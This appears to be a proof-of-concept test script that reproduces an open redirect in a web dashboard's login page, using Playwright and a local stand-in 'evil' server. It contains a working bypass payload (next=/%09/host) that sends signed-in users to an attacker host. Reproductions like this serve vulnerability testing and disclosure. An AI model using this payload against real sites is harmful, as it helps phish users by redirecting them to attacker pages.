"""Open redirect through next=: a signed-in person who follows
BASE/login?next=/%09/EVIL lands on EVIL (Chromium, as the dashboard's users would)."""

import http.server
import sys
import threading

from playwright.sync_api import sync_playwright

base = sys.argv[1]
evil = http.server.ThreadingHTTPServer(("127.0.0.2", 0), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=evil.serve_forever, daemon=True).start()
evil_host = f"127.0.0.2:{evil.server_port}"

with sync_playwright() as p:
    browser = p.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
    page = browser.new_page()
    # signed out: the sign-in form carries next, and sends the browser on after a right password
    page.goto(f"{base}/login?next=/%09/{evil_host}/phish")
    page.fill("input[name=name]", "ada")
    page.fill("input[name=password]", "a long enough password!")
    page.click("#signin-submit")
    page.wait_for_load_state()
    print("after signing in, the browser is at", page.url)
    # signed in already: one click on a link is enough
    page.goto(f"{base}/login?next=/%09/{evil_host}/phish2")
    print("a signed-in click on the link lands at", page.url)
    browser.close()
evil.shutdown()
